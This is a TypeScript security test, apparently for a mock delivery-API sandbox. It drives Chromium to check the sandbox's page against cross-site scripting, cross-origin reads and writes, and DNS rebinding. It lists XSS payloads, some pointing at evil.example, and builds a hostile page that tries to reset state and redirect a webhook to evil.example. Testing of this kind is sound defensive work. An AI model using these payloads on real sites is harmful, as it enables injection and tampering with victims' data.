import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { chromiumPath, launch } from '../../../tools/browser/chromium.ts';
import type { Attack } from '../attack.ts';
import { exampleOf } from '../examples.ts';
import { startMockProcess } from '../mock-process.ts';

const scripts: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  "javascript:alert(1)//'",
  '</pre><iframe srcdoc="<script>alert(1)</script>">',
  '{{constructor.constructor("alert(1)")()}}',
  '<style>@import"//evil.example"</style>',
  '<base href="//evil.example/">',
  '<form action=//evil.example><button>',
];

/**
 * A page of another origin that tries what a browser lets it try. Each attempt writes into
 * `window.told` whether it learnt anything.
 */
const attackingPage = (mock: string): string => `<!doctype html><title>evil</title><script>
window.told = []; window.done = false;
const json = { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' };
const tries = {
  readJson: () => fetch('${mock}/_sandbox/snapshot').then((r) => r.text()),
  readOpaque: () => fetch('${mock}/_sandbox/snapshot', { mode: 'no-cors' }).then((r) => r.text()).then((t) => t || Promise.reject()),
  reset: () => fetch('${mock}/_sandbox/reset', json).then((r) => r.text()),
  resetSimple: () => fetch('${mock}/_sandbox/reset', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' }).then((r) => r.text()).then((t) => t || Promise.reject()),
  beacon: () => { navigator.sendBeacon('${mock}/_sandbox/reset', new Blob(['{}'], { type: 'text/plain' })); return Promise.reject(); },
  put: () => fetch('${mock}/_sandbox/webhooks', { method: 'PUT', headers: { 'Content-Type': 'application/json' }, body: '{"lastmile":{"url":"http://evil.example/"}}' }).then((r) => r.text()),
  events: () => new Promise((resolve, reject) => { const s = new EventSource('${mock}/_sandbox/events'); s.onopen = s.onmessage = () => resolve('open'); s.onerror = () => { s.close(); reject(); }; }),
  socket: () => new Promise((resolve, reject) => { const s = new WebSocket('${mock}'.replace('http', 'ws')); s.onopen = () => resolve('open'); s.onerror = reject; }),
  script: () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.src = '${mock}/_sandbox/page.js'; s.onload = () => resolve('loaded'); s.onerror = reject; document.head.append(s); }),
  style: () => new Promise((resolve, reject) => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '${mock}/_sandbox/page.css'; s.onload = () => resolve('loaded'); s.onerror = reject; document.head.append(s); }),
  image: () => new Promise((resolve, reject) => { const s = new Image(); s.onload = () => resolve('loaded'); s.onerror = reject; s.src = '${mock}/_sandbox/page.svg'; }),
  frame: () => new Promise((resolve, reject) => { const f = document.createElement('iframe'); f.src = '${mock}/'; f.onload = () => { try { f.contentDocument?.body.innerText ? resolve('read') : reject(); } catch { reject(); } }; document.documentElement.append(f); }),
  form: () => new Promise((resolve, reject) => { const f = document.createElement('form'); f.method = 'post'; f.enctype = 'text/plain'; f.action = '${mock}/_sandbox/reset'; const i = document.createElement('iframe'); i.name = 'sink'; f.target = 'sink'; i.onload = () => reject(); document.documentElement.append(i, f); f.submit(); setTimeout(reject, 1000); }),
};
Promise.all(Object.entries(tries).map(([name, go]) => Promise.resolve().then(go).then((text) => window.told.push(name + ': ' + String(text).slice(0, 80)), () => {}))).then(() => { window.done = true; });
</script>`;

/**
 * In a real browser: markup in everything that the page shows, a page of another origin, and a name
 * that was rebound.
 */
export const page: Attack = {
  name: 'page',
  title: 'in Chromium: script in names and paths, a page of another origin, a name that leads here',
  async run({ tell, tried }) {
    if (!existsSync(chromiumPath)) return 'not tried: there is no Chromium here (CHROMIUM_PATH)';
    const mock = await startMockProcess([
      '--quiet',
      '--frozen',
      '--seed',
      'page',
      '--start',
      '2026-11-20T18:00:00Z',
    ]);
    const evil = await serve(attackingPage(mock.url));
    const browser = await launch('--host-resolver-rules=MAP rebound.example 127.0.0.1');
    const state = async (): Promise<string> =>
      (
        await Promise.all(
          ['snapshot', 'clock', 'webhooks'].map(async (one) =>
            (await fetch(`${mock.url}/_sandbox/${one}`)).text(),
          ),
        )
      ).join();
    try {
      await fillWithScripts(mock.url, tried);
      const before = await state();
      const own = await browser.newPage();
      const strangers = watch(own, mock.url);
      await own.goto(`${mock.url}/`);
      await own.getByRole('heading', { name: 'Requests' }).waitFor();
      await own.locator('article').first().waitFor();
      const shown = await own.locator('body').innerText();
      if (
        !shown.includes('onerror=alert(1)') &&
        !(await own.content()).includes('onerror=alert(1)')
      )
        tell('the names with markup do not show, so nothing was tried', 'open the page');
      const made = await own.evaluate(
        () =>
          document.querySelectorAll(
            'img, iframe, base, body script, body style, form[action], [onload], [onerror]',
          ).length,
      );
      if (made > 0) tell(`${made} elements were made of data`, scripts.join(' '));
      for (const one of strangers) tell(`the page was led astray: ${one}`, scripts.join(' '));

      const foreign = await browser.newPage();
      await foreign.goto(evil.url);
      await foreign.waitForFunction(
        () => (window as unknown as { done: boolean }).done,
        undefined,
        { timeout: 30_000 },
      );
      const told = await foreign.evaluate(() => (window as unknown as { told: string[] }).told);
      tried(13);
      for (const one of told)
        tell(
          `a page of another origin learns something: ${one}`,
          'serve attackingPage() of page.ts from another port',
        );
      if ((await state()) !== before)
        tell(
          'a page of another origin has changed something',
          'serve attackingPage() of page.ts from another port',
        );

      const rebound = await browser.newPage();
      const url = mock.url.replace('127.0.0.1', 'rebound.example');
      tried(2);
      const answer = await rebound.goto(`${url}/`);
      if (answer?.status() !== 400)
        tell(`the page is served under a name that was rebound: ${answer?.status()}`, `${url}/`);
      const read = await rebound.evaluate(async () => (await fetch('/_sandbox/snapshot')).status);
      if (read !== 400)
        tell(
          `the snapshot is served under a name that was rebound: ${read}`,
          `${url}/_sandbox/snapshot`,
        );
      return undefined;
    } finally {
      await browser.close();
      evil.server.close();
      await mock.stop();
    }
  },
};

/** Puts markup wherever data comes from: bodies, paths, queries, keys, targets, orders. */
async function fillWithScripts(mock: string, tried: (count: number) => void): Promise<void> {
  const booking = exampleOf('createBooking', 'reassignment_booking_request') as {
    dropoff: { contact: object; address: object };
  };
  let count = 0;
  const send = async (method: string, path: string, body?: unknown): Promise<void> => {
    tried(1);
    const headers = {
      Authorization: 'Bearer test_attack',
      'Idempotency-Key': `page-key-${++count}`,
      ...(body !== undefined && { 'Content-Type': 'application/json' }),
    };
    await fetch(`${mock}${path}`, {
      method,
      headers,
      body: body === undefined ? null : JSON.stringify(body),
    });
  };
  for (const script of scripts) {
    const { dropoff } = booking;
    const named = {
      contact: { ...dropoff.contact, name: script },
      address: { ...dropoff.address, line1: script, city: script },
    };
    await send('POST', '/lastmile/acme/create_booking', {
      ...booking,
      external_reference: script,
      dropoff: named,
      notes: script,
    });
    await send('POST', '/lastmile/acme/create_booking', {
      ...booking,
      external_reference: `${count}`,
      dropoff: { ...dropoff, ...named },
    });
    await send('POST', '/lastmile/acme/create_booking', { ...booking, [script]: script });
    for (const path of [
      `/lastmile/${encodeURIComponent(script)}/get_store_info/x`,
      `/marketplace/orders/${encodeURIComponent(script)}`,
      `/x?${script}`,
    ])
      await send('GET', path);
    await send('PUT', '/_sandbox/webhooks', {
      lastmile: { url: `http://127.0.0.1:9/${script}#${script}` },
    });
    await send('POST', '/_sandbox/orders', {});
  }
}

/** What a page should not do: leave the mock, open a dialog, fail. */
function watch(page: Page, url: string): string[] {
  const seen: string[] = [];
  page.on('request', (request) => request.url().startsWith(`${url}/`) || seen.push(request.url()));
  page.on('dialog', (dialog) => {
    seen.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => seen.push(String(error)));
  page.on('console', (message) => message.type() === 'error' && seen.push(message.text()));
  return seen;
}

async function serve(html: string): Promise<{ url: string; server: Server }> {
  const server = createServer((_, response) =>
    response.writeHead(200, { 'Content-Type': 'text/html' }).end(html),
  );
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, server };
}
